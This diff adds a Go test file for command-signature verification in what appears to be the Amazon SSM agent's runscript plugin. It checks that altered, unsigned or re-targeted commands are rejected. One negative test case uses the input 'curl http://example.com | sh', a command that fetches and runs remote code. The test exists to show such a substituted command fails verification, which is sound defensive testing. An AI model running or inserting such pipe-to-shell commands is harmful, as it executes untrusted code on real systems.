@@ -0,0 +1,82 @@
+// Copyright 2024 Amazon.com, Inc. or its affiliates. All Rights Reserved.
+//
+// Licensed under the Apache License, Version 2.0 (the "License"). You may not
+// use this file except in compliance with the License. A copy of the
+// License is located at
+//
+// http://aws.amazon.com/apache2.0/
+//
+// or in the "license" file accompanying this file. This file is distributed
+// on an "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND,
+// either express or implied. See the License for the specific language governing
+// permissions and limitations under the License.
+
+// Package runscript implements the runscript plugin.
+package runscript
+
+import (
+	"crypto/ed25519"
+	"encoding/base64"
+	"testing"
+
+	"github.com/aws/amazon-ssm-agent/agent/appconfig"
+	"github.com/aws/amazon-ssm-agent/agent/executers"
+	"github.com/aws/amazon-ssm-agent/agent/mocks/context"
+	"github.com/aws/amazon-ssm-agent/agent/signature"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestVerifyCommandsSignature(t *testing.T) {
+	privateKey := signature.StubTrustStore(t)
+	p := &Plugin{Context: context.NewMockDefault(), Name: appconfig.PluginNameAwsRunShellScript}
+	commands := []string{"yum install -y httpd", "systemctl start httpd"}
+	commandsSignature := base64.StdEncoding.EncodeToString(ed25519.Sign(privateKey, []byte(`{"runCommand":["yum install -y httpd","systemctl start httpd"]}`+"\n")))
+
+	keyName, err := p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: commands, Signature: commandsSignature})
+	assert.NoError(t, err)
+	assert.Equal(t, "release", keyName)
+
+	_, err = p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: []string{"curl http://example.com | sh"}, Signature: commandsSignature})
+	assert.EqualError(t, err, "invalid signature of the commands: the signature does not match any key of the trust store")
+
+	// the signature covers the parameters that change how the commands run
+	_, err = p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: commands, RunAsUser: "root", Signature: commandsSignature})
+	assert.EqualError(t, err, "invalid signature of the commands: the signature does not match any key of the trust store")
+
+	// unsigned commands run unless the agent requires signed scripts
+	keyName, err = p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: commands})
+	assert.NoError(t, err)
+	assert.Empty(t, keyName)
+
+	p.Name = appconfig.PluginNameAwsRunPowerShellScript
+	_, err = p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: commands, Signature: commandsSignature})
+	assert.EqualError(t, err, "signature is not supported by aws:runPowerShellScript")
+}
+
+func TestVerifyCommandsSignature_RequiredByAgent(t *testing.T) {
+	signature.StubTrustStore(t)
+	appConfig := appconfig.DefaultConfig()
+	appConfig.Ssm.RequireSignedScripts = true
+	p := &Plugin{Context: context.NewMockDefaultWithConfig(appConfig), Name: appconfig.PluginNameAwsRunShellScript}
+
+	_, err := p.verifyCommandsSignature(RunScriptPluginInput{RunCommand: []string{"echo hello"}})
+	assert.EqualError(t, err, "the agent only runs signed scripts and the step has no signature")
+}
+
+func TestSignedMessage(t *testing.T) {
+	message, err := signedMessage(RunScriptPluginInput{
+		RunCommand:       []string{"test -d /opt && echo <ok>"},
+		WorkingDirectory: "/opt",
+		Environment:      map[string]string{"STAGE": "prod", "APP": "web"},
+		Interpreter:      "bash",
+		StrictMode:       "true",
+		RunAsUser:        "app",
+		RunAsGroup:       "app",
+		Sandbox:          &executers.SandboxOptions{},
+		TimeoutSeconds:   60,
+		Signature:        "signature",
+	})
+	assert.NoError(t, err)
+	assert.Equal(t, `{"runCommand":["test -d /opt && echo <ok>"],"workingDirectory":"/opt","environment":{"APP":"web","STAGE":"prod"},`+
+		`"interpreter":"bash","strictMode":"true","runAsUser":"app","runAsGroup":"app","sandbox":{}}`+"\n", string(message))
+}